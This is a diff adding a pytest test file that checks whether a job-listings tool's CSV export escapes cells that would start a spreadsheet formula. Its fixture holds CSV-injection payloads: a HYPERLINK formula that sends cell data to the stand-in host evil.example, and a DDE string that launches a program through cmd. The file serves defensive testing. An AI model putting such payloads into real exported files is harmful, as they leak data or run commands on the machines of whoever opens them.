@@ -1,0 +1,53 @@
+"""``--format csv`` is for spreadsheets, and a posting's text is anyone's: text that would start a formula where a
+spreadsheet opens the file is shown as text there (OWASP, "CSV Injection"). A small store of its own, read by the
+real command."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.helpers import small_store, vagigs
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Apply now")',
+    "company": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "description": "+998 90 123 45 67 — call us. Remote data entry.",
+    "location": "-2+3",
+    "salary_raw": "\t=1+1",
+}
+
+
+@pytest.fixture
+def env(tmp_path: Path) -> dict[str, str]:
+    url, _ = small_store(tmp_path / "v.db",
+                         dict(source="telegram", source_id="hostile", **HOSTILE),
+                         dict(source="telegram", source_id="plain", title="Virtual assistant (remote)",
+                              company="Acme", description="- answer e-mail\n- keep the calendar"))
+    return {"VAGIGS_DATABASE_URL": url, "VAGIGS_HOME": str(tmp_path / "home")}
+
+
+def _rows(env: dict[str, str]) -> dict[str, dict[str, str]]:
+    out = vagigs("feed", "--all", "--format", "csv", env=env).stdout
+    return {r["source_id"]: r for r in csv.DictReader(io.StringIO(out))}
+
+
+def test_text_that_would_start_a_formula_is_shown_as_text(env: dict[str, str]) -> None:
+    hostile = _rows(env)["hostile"]
+    for field in ("title", "company", "description", "location"):
+        assert hostile[field].startswith("'"), field
+        assert hostile[field][1:] == HOSTILE[field], field  # nothing else changed
+    assert hostile["salary_raw"].startswith("'")
+
+
+def test_other_cells_are_as_stored_and_json_is_exact(env: dict[str, str]) -> None:
+    rows = _rows(env)
+    plain = rows["plain"]
+    assert plain["title"] == "Virtual assistant (remote)" and plain["company"] == "Acme"
+    assert plain["description"] == "'- answer e-mail\n- keep the calendar"  # a list's first dash, too
+    assert json.loads(plain["tags"]) == json.loads(rows["hostile"]["tags"])  # JSON cells stay JSON
+    exact = {p["source_id"]: p for p in json.loads(vagigs("feed", "--all", "--format", "json", env=env).stdout)}
+    assert exact["hostile"]["title"] == HOSTILE["title"]
